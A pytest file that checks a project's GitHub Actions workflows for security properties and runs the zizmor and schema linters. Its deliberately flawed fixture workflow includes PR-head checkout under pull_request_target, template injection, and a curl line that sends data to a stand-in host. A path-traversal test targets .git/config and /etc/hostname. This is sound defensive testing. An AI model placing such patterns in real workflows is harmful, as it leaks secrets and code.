"""The GitHub Actions workflows: the security properties a reviewer checks, and the two linters CI runs."""

from __future__ import annotations

import importlib.metadata
import re
import shutil
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.markers import default_environment
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from regops.cli import main
from tests.conftest import git

REPO = Path(__file__).parent.parent
WORKFLOWS = REPO / ".github" / "workflows"
NAMES = (
    "registry-check.yml",
    "registry-approvals.yml",
    "registry-sync.yml",
    "register.yml",
    "drift.yml",
    "canary.yml",
    "registry-pages.yml",
)

# The most GITHUB_TOKEN may be granted in any job of each workflow.
ALLOWED_PERMISSIONS: dict[str, dict[str, str]] = {
    "registry-check.yml": {"contents": "read", "pull-requests": "read", "statuses": "write"},
    "registry-approvals.yml": {"contents": "read", "pull-requests": "write", "statuses": "write"},
    "registry-sync.yml": {"contents": "read", "pull-requests": "read"},
    # Its OIDC token only: keyless signing certifies "this workflow on main" as who signed the weights.
    "register.yml": {"id-token": "write"},
    "drift.yml": {"contents": "read", "issues": "write"},
    # Pushes and pull requests go through the app's token; GITHUB_TOKEN gets nothing.
    "canary.yml": {},
    # Publishing the site: pages and the OIDC token, only in the deploy job (see the test of its jobs).
    "registry-pages.yml": {"contents": "read", "pages": "write", "id-token": "write"},
}
LEVELS = {"none": 0, "read": 1, "write": 2}
# registry-check runs a PR's code, and registry-approvals judges a PR with a write token: no secret in either.
SECRET_WORKFLOWS = {"registry-sync.yml", "register.yml", "drift.yml", "canary.yml"}
# The one workflow that runs with the repository's privileges because of a pull request, and the trigger it uses
# for that: main's copy of it runs, it never runs the PR's code (see the test of its checkout below).
PRIVILEGED_TRIGGERS = {"registry-approvals.yml": ["workflow_run"]}
APPROVALS_HEAD = "${{ github.event.workflow_run.head_sha }}"
SETUP_ACTIONS = {"actions/checkout", "actions/setup-python", "actions/create-github-app-token"}
# GitHub's own Pages actions: the upload of what `regops site build` wrote, and the deployment of it.
PAGES_ACTIONS = {"actions/upload-pages-artifact", "actions/deploy-pages"}
APP_TOKEN = "${{ steps.app-token.outputs.token }}"
TOKEN = "${{ github.token }}"
LOCK = REPO / ".github" / "requirements.lock"
# Every job installs regops' dependencies and build backend from the lock, each file checked against its hash, then
# regops itself from the checkout, fetching nothing else.
INSTALL = (
    "pip install --require-hashes --no-deps -r .github/requirements.lock",
    "pip install --no-deps --no-build-isolation .",
)
# The steps that push (a commit to main, a pull request's branch): each holds the app token as GITHUB_TOKEN, which
# regops gives git through its environment, since no checkout keeps credentials.
PUSHERS = ("regops commit --push", "regops register", "regops canary pr")
# The runners the lock is for: ubuntu-latest (x86_64 Linux) with setup-python's 3.11.
RUNNER_MARKERS = {
    **default_environment(),
    **{"python_version": "3.11", "sys_platform": "linux", "platform_system": "Linux", "platform_machine": "x86_64"},
    **{"os_name": "posix", "implementation_name": "cpython", "platform_python_implementation": "CPython"},
}
PIN = re.compile(r"(?P<name>[A-Za-z0-9][\w.-]*)==(?P<version>\S+?)(?: \\)?")
HASH = re.compile(r"\s+--hash=sha256:(?P<hash>[0-9a-f]{64})(?: \\)?")
# GitHub's default variables a script may read without an `env:` of the workflow's.
DEFAULT_VARIABLES = {"GITHUB_WORKSPACE"}

PINNED_USES = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
USES_LINE = re.compile(r"^\s*(?:- )?uses:\s*(?P<ref>\S+)(?P<comment>.*)$")
VERSION_COMMENT = re.compile(r"\s+# v\d+\.\d+\.\d+")
SHELL_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)")
DOUBLE_QUOTED = re.compile(r'"[^"]*"')
# After removing double-quoted words: a `$` that does not start `${NAME:+...}` is an unquoted expansion.
UNQUOTED_EXPANSION = re.compile(r"\$(?!\{[A-Za-z_]\w*:\+)")
SHELL_CONTROL = re.compile(r"[;&|<>`\n]|\$\(")

# A workflow with every mistake the checks below exist to catch.
BAD_WORKFLOW = """\
on:
  pull_request_target:
permissions: write-all
jobs:
  build:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    env:
      HF_TOKEN: ${{ secrets.HF_TOKEN }}
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
      - run: regops validate --base $BASE && curl -d @registry https://example.invalid
"""


@cache
def load(name: str) -> dict[Any, Any]:
    workflow = yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))
    assert isinstance(workflow, dict), name
    return workflow


def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    # PyYAML reads the key `on` as the YAML 1.1 boolean True.
    on = workflow["on"] if "on" in workflow else workflow[True]
    assert isinstance(on, dict), f"`on:` is a mapping of events in these workflows, not {on!r}"
    return on


def steps(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[str, Any], dict[str, Any]]]:
    for job_id, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, job, step


def scripts(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[str, Any], dict[str, Any], str]]:
    for job_id, job, step in steps(workflow):
        if "run" in step:
            yield job_id, job, step, step["run"].strip()


def strings(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Every string in a workflow, keys included, with its dotted path."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield path, str(key)
            yield from strings(value, f"{path}.{key}" if path else str(key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from strings(value, f"{path}.{index}")
    elif isinstance(node, str):
        yield path, node


# Each check returns its findings, so a test can show it finds the mistakes in BAD_WORKFLOW too.


def unpinned_uses(workflow: dict[Any, Any]) -> list[str]:
    return [
        step["uses"] for _, _, step in steps(workflow) if "uses" in step and not PINNED_USES.fullmatch(step["uses"])
    ]


def dangerous_triggers(workflow: dict[Any, Any]) -> list[str]:
    return [event for event in triggers(workflow) if event in ("pull_request_target", "workflow_run")]


def checkout_choices(workflow: dict[Any, Any]) -> list[str]:
    """What a checkout is told to fetch instead of the event's own commit (``ref:``, ``repository:``)."""
    return [
        f"{job_id}: {step['with'][key]}"
        for job_id, _, step in steps(workflow)
        if step.get("uses", "").startswith("actions/checkout@")
        for key in ("ref", "repository")
        if key in step.get("with", {})
    ]


def expressions_in_scripts(workflow: dict[Any, Any]) -> list[str]:
    return [f"{job_id}: {script}" for job_id, _, _, script in scripts(workflow) if "${{" in script]


def excess_permissions(workflow: dict[Any, Any], allowed: dict[str, str]) -> list[str]:
    found = [] if workflow.get("permissions") == {} else [f"top level: {workflow.get('permissions')!r}"]
    for job_id, job in workflow["jobs"].items():
        grants = job.get("permissions")
        if not isinstance(grants, dict):
            found.append(f"{job_id}: {grants!r}")
            continue
        found += [
            f"{job_id}: {scope}: {level}"
            for scope, level in grants.items()
            if LEVELS[level] > LEVELS[allowed.get(scope, "none")]
        ]
    return found


def secrets(workflow: dict[Any, Any]) -> list[str]:
    """Where secrets are read: the dotted path of each reference."""
    return [path for path, text in strings(workflow) if re.search(r"\bsecrets\b", text)]


def unquoted_expansions(workflow: dict[Any, Any]) -> list[str]:
    return [script for _, _, _, script in scripts(workflow) if UNQUOTED_EXPANSION.search(DOUBLE_QUOTED.sub("", script))]


def shell_logic(workflow: dict[Any, Any]) -> list[str]:
    return [script for _, _, _, script in scripts(workflow) if SHELL_CONTROL.search(DOUBLE_QUOTED.sub("", script))]


def test_the_workflows_named_here_are_all_there_is() -> None:
    assert sorted(path.name for path in WORKFLOWS.iterdir()) == sorted(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version(name: str) -> None:
    assert unpinned_uses(load(name)) == []
    for line in (WORKFLOWS / name).read_text(encoding="utf-8").splitlines():
        if match := USES_LINE.match(line):
            assert VERSION_COMMENT.fullmatch(match["comment"]), f"{name}: no '# vX.Y.Z' after the SHA: {line.strip()}"


@pytest.mark.parametrize("name", NAMES)
def test_only_registry_approvals_runs_with_the_repository_s_privileges_for_a_pull_request(name: str) -> None:
    assert dangerous_triggers(load(name)) == PRIVILEGED_TRIGGERS.get(name, [])


def test_registry_approvals_runs_main_s_code_on_the_pull_request_s_commit_id_alone_and_holds_no_secret() -> None:
    """What makes its `workflow_run` safe: the checkout is the default branch's (the event's own commit: no `ref:`,
    no `repository:`), every step is the setup or a regops verb given the head commit id through env, no secret."""
    workflow = load("registry-approvals.yml")
    assert triggers(workflow) == {"workflow_run": {"workflows": ["registry-check"], "types": ["completed"]}}
    assert checkout_choices(workflow) == []
    assert secrets(workflow) == []
    assert [(job_id, script, step.get("env")) for job_id, _, step, script in scripts(workflow)] == [
        *(("report", install, None) for install in INSTALL),
        ("report", 'regops pr report --head-sha "$HEAD_SHA"', {"HEAD_SHA": APPROVALS_HEAD, "GITHUB_TOKEN": TOKEN}),
        *(("approvals", install, None) for install in INSTALL),
        ("approvals", 'regops pr check --head-sha "$HEAD_SHA"', {"HEAD_SHA": APPROVALS_HEAD, "GITHUB_TOKEN": TOKEN}),
    ]
    # A merge group's status is registry-check's (its code is in the repository: the queue's own branch).
    assert {job["if"] for job in workflow["jobs"].values()} == {"github.event.workflow_run.event != 'merge_group'"}
    assert load("registry-check.yml")["jobs"]["approvals"]["if"] == "github.event_name == 'merge_group'"


def test_registry_approvals_ignores_zizmor_s_dangerous_trigger_finding_on_that_line_only_and_says_why() -> None:
    lines = (WORKFLOWS / "registry-approvals.yml").read_text(encoding="utf-8").splitlines()
    ignores = [line.strip() for line in lines if "zizmor:" in line]
    assert len(ignores) == 1
    assert re.fullmatch(r"workflow_run: # zizmor: ignore\[dangerous-triggers\] \S.{20,}", ignores[0]), ignores


@pytest.mark.parametrize("name", NAMES)
def test_event_values_reach_scripts_only_through_env_and_quoted(name: str) -> None:
    workflow = load(name)
    assert expressions_in_scripts(workflow) == []
    assert unquoted_expansions(workflow) == []
    for job_id, job, step, script in scripts(workflow):
        defined = {**workflow.get("env", {}), **job.get("env", {}), **step.get("env", {})}
        undefined = set(SHELL_VARIABLE.findall(script)) - set(defined) - DEFAULT_VARIABLES
        assert not undefined, f"{name}: {job_id}: {script!r} uses {sorted(undefined)}, which no env: defines"


@pytest.mark.parametrize("name", NAMES)
def test_token_permissions_are_empty_by_default_and_granted_per_job_within_the_allow_list(name: str) -> None:
    assert excess_permissions(load(name), ALLOWED_PERMISSIONS[name]) == []


def test_registry_check_and_registry_approvals_get_only_what_each_job_needs() -> None:
    jobs = load("registry-check.yml")["jobs"]
    assert {job_id: job["permissions"] for job_id, job in jobs.items()} == {
        "validate": {"contents": "read"},
        "approvals": {"contents": "read", "pull-requests": "read", "statuses": "write"},
    }
    jobs = load("registry-approvals.yml")["jobs"]
    assert {job_id: job["permissions"] for job_id, job in jobs.items()} == {
        "report": {"contents": "read", "pull-requests": "write"},
        "approvals": {"contents": "read", "pull-requests": "read", "statuses": "write"},
    }


@pytest.mark.parametrize("name", NAMES)
def test_secrets_stay_out_of_the_pull_request_checks_and_elsewhere_reach_only_the_step_that_uses_them(
    name: str,
) -> None:
    found = secrets(load(name))
    if name not in SECRET_WORKFLOWS:
        assert found == []
        return
    assert found, f"{name} reads no secret, so this test checks nothing there"
    for path in found:
        # jobs.<job>.steps.<n>.env.<NAME> or jobs.<job>.steps.<n>.with.private-key (the app token)
        assert re.fullmatch(r"jobs\.[\w-]+\.steps\.\d+\.(env\.\w+|with\.private-key)", path), path


@pytest.mark.parametrize("name", NAMES)
def test_every_step_is_a_regops_call_or_the_setup_it_needs(name: str) -> None:
    for job_id, _, step in steps(load(name)):
        if "uses" in step:
            allowed = SETUP_ACTIONS | (PAGES_ACTIONS if name == "registry-pages.yml" else set())
            assert step["uses"].split("@")[0] in allowed, f"{name}: {job_id}: {step['uses']}"
        else:
            script = step["run"].strip()
            assert script in INSTALL or script.startswith("regops "), f"{name}: {job_id}: {script!r}"
    assert shell_logic(load(name)) == []


def persisted_credentials(workflow: dict[Any, Any]) -> list[str]:
    """Checkouts that leave the token in .git/config (persist-credentials is true unless set to false)."""
    return [
        job_id
        for job_id, _, step in steps(workflow)
        if step.get("uses", "").startswith("actions/checkout@")
        and step.get("with", {}).get("persist-credentials") is not False
    ]


def unhashed_installs(workflow: dict[Any, Any]) -> list[str]:
    """Jobs that install anything other than the lock's files, by hash, and then regops from the checkout (a job
    that runs no script, such as the Pages deployment, installs nothing)."""
    found = []
    for job_id, job in workflow["jobs"].items():
        if not any("run" in step for step in job.get("steps", [])):
            continue
        installs = [step["run"].strip() for step in job.get("steps", []) if "pip" in step.get("run", "")]
        if installs != list(INSTALL):
            found.append(f"{job_id}: {installs}")
    return found


@pytest.mark.parametrize("name", NAMES)
def test_no_checkout_keeps_credentials_and_only_the_steps_that_push_hold_the_app_token(name: str) -> None:
    workflow = load(name)
    assert persisted_credentials(workflow) == []
    for job_id, _, step, script in scripts(workflow):
        if script.startswith(PUSHERS):
            assert step.get("env", {}).get("GITHUB_TOKEN") == APP_TOKEN, f"{name}: {job_id}: {script!r}"


@pytest.mark.parametrize("name", NAMES)
def test_every_job_installs_its_dependencies_by_hash_from_the_lock(name: str) -> None:
    assert unhashed_installs(load(name)) == []


@pytest.mark.parametrize("name", NAMES)
def test_every_job_has_a_timeout(name: str) -> None:
    for job_id, job in load(name)["jobs"].items():
        assert isinstance(job.get("timeout-minutes"), int), f"{name}: {job_id}"
        assert 0 < job["timeout-minutes"] <= 120


@pytest.mark.parametrize("name", NAMES)
def test_every_workflow_has_a_concurrency_group_and_writers_are_never_cancelled_halfway(name: str) -> None:
    concurrency = load(name)["concurrency"]
    assert concurrency["group"]
    if name in SECRET_WORKFLOWS:
        assert concurrency["cancel-in-progress"] is False


def test_registry_pages_grants_pages_and_the_oidc_token_only_to_the_deploy_job_which_runs_no_code() -> None:
    workflow = load("registry-pages.yml")
    jobs = workflow["jobs"]
    assert {job_id: job["permissions"] for job_id, job in jobs.items()} == {
        "build": {"contents": "read"},
        "deploy": {"pages": "write", "id-token": "write"},
    }
    assert [step["uses"].split("@")[0] for step in jobs["deploy"]["steps"]] == ["actions/deploy-pages"]
    assert jobs["deploy"]["needs"] == "build"
    assert [script for job_id, _, _, script in scripts(workflow) if script.startswith("regops")] == [
        "regops site build --out site"
    ]
    assert triggers(workflow) == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert workflow["concurrency"] == {"group": "registry-pages", "cancel-in-progress": False}


def test_registry_sync_is_one_group_for_every_run() -> None:
    assert load("registry-sync.yml")["concurrency"]["group"] == "registry-sync"


def test_registry_approvals_keeps_the_newest_run_for_each_pull_request_head() -> None:
    # A check, not a writer: a newer run decides from the same facts and more.
    assert load("registry-approvals.yml")["concurrency"] == {
        "group": f"registry-approvals-{APPROVALS_HEAD}",
        "cancel-in-progress": True,
    }


@pytest.mark.parametrize("name", ["registry-sync.yml", "register.yml"])
def test_writers_queue_waiting_runs_in_order_rather_than_drop_them(name: str) -> None:
    assert load(name)["concurrency"]["queue"] == "max"


def test_sync_works_on_the_pushed_commit_and_register_on_the_tip_of_main() -> None:
    def checkout(name: str) -> dict[str, Any]:
        return next(
            step["with"] for _, _, step in steps(load(name)) if step.get("uses", "").startswith("actions/checkout@")
        )

    # `pr stamp` stamps the PR that made HEAD; a new version counts up from the latest one on main.
    assert "ref" not in checkout("registry-sync.yml")
    assert checkout("register.yml")["ref"] == "main"


def test_triggers() -> None:
    check = triggers(load("registry-check.yml"))
    assert set(check) == {"pull_request", "pull_request_review", "merge_group"}
    assert check["pull_request_review"] == {"types": ["submitted", "dismissed"]}
    # A path filter would leave the required status unset on PRs it skips.
    assert not check["pull_request"]

    assert triggers(load("registry-sync.yml")) == {
        "push": {"branches": ["main"], "paths": ["registry/**"]},
        "workflow_dispatch": None,
    }

    register = triggers(load("register.yml"))
    assert register["repository_dispatch"] == {"types": ["model-trained"]}
    inputs = register["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"model", "artifacts", "evals", "params", "dataset", "parent", "bump", "open_pr"}

    drift = triggers(load("drift.yml"))
    assert set(drift) == {"schedule", "workflow_dispatch"}
    assert drift["schedule"][0]["cron"]


def test_registry_sync_runs_the_steps_in_order_and_commits_last() -> None:
    # Each command up to its first option.
    commands = [script.split(" -")[0] for _, _, _, script in scripts(load("registry-sync.yml"))]
    assert commands == [
        "pip install",
        "pip install",
        "regops auto-promote",
        "regops pr stamp",  # before the sync: a stage ref waits for its signed review attestation
        "regops sync",
        "regops retention apply",
        "regops commit",
        "regops retention apply",  # removes the hot copies whose move the commit published
    ]
    steps = load("registry-sync.yml")["jobs"]["sync"]["steps"]
    keyed = [step["run"] for step in steps if "REGOPS_SIGNING_KEY" in step.get("env", {})]
    assert keyed == ["regops pr stamp --signing-key-env REGOPS_SIGNING_KEY"], "the signing key in the stamp only"
    commit = next(step for step in steps if step.get("run", "").startswith("regops commit"))
    assert commit["if"] == "${{ !cancelled() }}", "a failed sync or retention step must not lose the stamps"


def test_register_passes_every_input_and_opens_a_pr_instead_of_committing_when_asked() -> None:
    job = load("register.yml")["jobs"]["register"]
    script = next(step["run"] for step in job["steps"] if step.get("run", "").startswith("regops register"))
    for flag, variable in [("--artifacts", "ARTIFACTS"), ("--evals", "EVALS"), ("--params", "PARAMS")]:
        assert f'{flag} "${variable}"' in script
    assert '${PARENT:+--parent "$PARENT"}' in script
    assert "${OPEN_PR:+--pr}" in script
    assert "--signing-key-env REGOPS_SIGNING_KEY" in script, "signed: the secret's key, else keyless by OIDC"
    assert script.endswith('--confine "$GITHUB_WORKSPACE"'), "the event's paths name files of the checkout only"
    commit = next(step for step in job["steps"] if step.get("run", "").startswith("regops commit"))
    assert commit["if"] == "env.OPEN_PR != 'true'"


@pytest.mark.parametrize(
    ("check", "found"),
    [
        (unpinned_uses, ["actions/checkout@v4"]),
        (dangerous_triggers, ["pull_request_target"]),
        (checkout_choices, ["build: ${{ github.event.pull_request.head.sha }}"]),
        (expressions_in_scripts, ['build: echo "${{ github.event.pull_request.title }}"']),
        (
            lambda workflow: excess_permissions(workflow, {"contents": "read"}),
            ["top level: 'write-all'", "build: contents: write"],
        ),
        (secrets, ["jobs.build.env.HF_TOKEN"]),
        (unquoted_expansions, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
        (shell_logic, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
        (persisted_credentials, ["build"]),
        (unhashed_installs, ["build: []"]),
    ],
)
def test_each_check_finds_its_mistake(check: Any, found: list[str]) -> None:
    assert check(yaml.safe_load(BAD_WORKFLOW)) == found


def executable(name: str) -> str:
    """The tool from this interpreter's environment (where `pip install -e '.[test]'` puts it), else PATH."""
    beside = Path(sys.executable).with_name(name)
    found = str(beside) if beside.exists() else shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed: install the test extra, pip install -e '.[test]'")
    return found


def run(*command: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.parametrize("persona", ["regular", "auditor"])
def test_zizmor_finds_nothing(persona: str) -> None:
    """The auditor persona reports what the regular one leaves out as likely noise (artipacked among them)."""
    result = run(executable("zizmor"), "--offline", "--strict-collection", "--persona", persona, str(WORKFLOWS))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout, result.stdout


def test_zizmor_flags_injection_unpinned_actions_and_dangerous_triggers(tmp_path: Path) -> None:
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(BAD_WORKFLOW, encoding="utf-8")
    result = run(executable("zizmor"), "--offline", "--strict-collection", "--persona", "auditor", str(workflows))
    assert result.returncode != 0
    for audit in ("template-injection", "unpinned-uses", "dangerous-triggers", "artipacked"):
        assert f"[{audit}]" in result.stdout, result.stdout


def test_workflows_match_github_s_workflow_schema() -> None:
    command = [executable("check-jsonschema"), "--builtin-schema", "vendor.github-workflows"]
    result = run(*command, *map(str, sorted(WORKFLOWS.glob("*.yml"))))
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_rejects_a_misspelt_permissions_key(tmp_path: Path) -> None:
    # `permission:` would be ignored by a lenient reader, and the job would get the default token.
    workflow = (WORKFLOWS / "drift.yml").read_text(encoding="utf-8").replace("    permissions:", "    permission:")
    (tmp_path / "drift.yml").write_text(workflow, encoding="utf-8")
    result = run(
        executable("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(tmp_path / "drift.yml")
    )
    assert result.returncode == 1
    assert "'permission' was unexpected" in result.stdout, result.stdout


def locked(text: str) -> dict[str, tuple[str, list[str]]]:
    """The lock's pins: normalized name → (version, its sha256 hashes). Any other line than a pin, a hash or a
    comment fails: pip would read it as a requirement too."""
    pins: dict[str, tuple[str, list[str]]] = {}
    name = None
    for line in text.splitlines():
        if pin := PIN.fullmatch(line):
            name = canonicalize_name(pin["name"])
            pins[name] = (pin["version"], [])
        elif (found := HASH.fullmatch(line)) and name is not None:
            pins[name][1].append(found["hash"])
        elif line.strip() and not line.lstrip().startswith("#"):
            raise AssertionError(f"{LOCK.name}: not a pin, a hash or a comment: {line!r}")
    return pins


def project_requirements() -> list[Requirement]:
    """What regops needs to be built and run: [project].dependencies and [build-system].requires."""
    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    texts = [*pyproject["project"]["dependencies"], *pyproject["build-system"]["requires"]]
    return [Requirement(text) for text in texts]


def closure(roots: list[Requirement]) -> dict[str, list[Requirement]]:
    """Every distribution ``roots`` pull in on the runners, with each requirement naming it, read from the metadata
    of this environment's installed distributions."""
    needed: dict[str, list[Requirement]] = {}
    todo, done = list(roots), set()
    while todo:
        requirement = todo.pop()
        name = canonicalize_name(requirement.name)
        needed.setdefault(name, []).append(requirement)
        if (name, frozenset(requirement.extras)) in done:
            continue
        done.add((name, frozenset(requirement.extras)))
        for text in importlib.metadata.distribution(name).requires or []:
            dependency = Requirement(text)
            extras = requirement.extras or {""}
            if dependency.marker is None or any(
                dependency.marker.evaluate({**RUNNER_MARKERS, "extra": e}) for e in extras
            ):
                todo.append(dependency)
    return needed


def test_the_lock_pins_every_file_by_hash_and_satisfies_pyproject() -> None:
    pins = locked(LOCK.read_text(encoding="utf-8"))
    assert [name for name, (_, hashes) in pins.items() if not hashes] == []
    for requirement in project_requirements():
        name = canonicalize_name(requirement.name)
        assert name in pins, (
            f"{requirement} (pyproject.toml) is not in {LOCK.name}: regenerate it (its header says how)"
        )
        assert requirement.specifier.contains(pins[name][0], prereleases=True), f"{requirement}: {pins[name][0]}"


def test_the_lock_is_the_whole_closure_of_pyproject_s_requirements_and_nothing_else() -> None:
    """Read from this environment, which the README's test command installs from the lock first: each locked version
    is installed, and what those versions require on the runners is what the lock pins, in versions it allows."""
    pins = locked(LOCK.read_text(encoding="utf-8"))
    for name, (version, _) in pins.items():
        have = importlib.metadata.version(name)
        assert have == version, (
            f"this environment has {name} {have}, the lock {version}: install the lock first "
            "(pip install --require-hashes -r .github/requirements.lock), as the README's test command does"
        )
    needed = closure(project_requirements())
    assert sorted(needed) == sorted(pins), f"regenerate {LOCK.name}: its header says how"
    for name, requirements in needed.items():
        for requirement in requirements:
            assert requirement.specifier.contains(pins[name][0], prereleases=True), f"{requirement}: {pins[name][0]}"


def test_the_lock_check_finds_a_missing_hash_a_stray_line_and_a_missing_dependency() -> None:
    text = LOCK.read_text(encoding="utf-8")
    unhashed = re.sub(r"(?m)^(pydantic==\S+) \\\n(\s+--hash=\S+ \\\n)*\s+--hash=\S+$", r"\1", text)
    assert locked(unhashed)["pydantic"][1] == []
    with pytest.raises(AssertionError, match="not a pin, a hash or a comment"):
        locked(text + "--index-url https://example.invalid/simple\n")
    without_core = {name: pin for name, pin in locked(text).items() if name != "pydantic-core"}
    assert "pydantic-core" in set(closure(project_requirements())) - set(without_core)


def test_register_confined_to_the_checkout_refuses_paths_outside_it_or_in_git_and_changes_nothing(
    history_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """register.yml's `--confine "$GITHUB_WORKSPACE"`: the dispatch's paths, resolved with symlinks followed, must
    name files of the checkout and none of its .git (whose config may hold a credential)."""
    repo = history_repo
    run = repo / "training"
    (run / "weights").mkdir(parents=True)
    (run / "weights" / "model.safetensors").write_bytes(b"weights" * 1000)
    (run / "evals.json").write_text('{"accuracy": 0.94, "latency_ms": 40}')
    (run / "params.json").write_text('{"epochs": 3}')
    (repo / "escape").symlink_to(tmp_path / "out-1.0.0")
    head = git(repo, "rev-parse", "HEAD")

    def register(artifacts: str, evals: str = "training/evals.json", params: str = "training/params.json") -> int:
        paths = ["--artifacts", artifacts, "--evals", evals, "--params", params]
        common = ["--dataset", "reviews@2025-09-08", "--version", "1.2.0", "--by", "training-bot[bot]"]
        return main(["register", "sentiment", *paths, *common, "--confine", str(repo)])

    refused = {
        str(tmp_path / "out-1.0.0"): f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
        "../out-1.0.0": f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
        "escape": f"resolves to {tmp_path / 'out-1.0.0'}, outside {repo} (--confine)",
        ".git": f"resolves to {repo / '.git'}, in a .git folder",
        "training/../.git/refs": f"resolves to {repo / '.git' / 'refs'}, in a .git folder",
    }
    for artifacts, said in refused.items():
        assert register(artifacts) == 1, artifacts
        assert f"--artifacts {artifacts} {said}" in capsys.readouterr().err
    assert register("training/weights", evals=".git/config") == 1
    assert f"--evals .git/config resolves to {repo / '.git' / 'config'}, in a .git folder" in capsys.readouterr().err
    assert register("training/weights", params="/etc/hostname") == 1
    assert "--params /etc/hostname resolves to /etc/hostname, outside" in capsys.readouterr().err
    assert (git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain", "registry")) == (head, "")

    assert register("training/weights") == 0, capsys.readouterr()
    assert (repo / "registry/models/sentiment/1.2.0.yaml").exists()
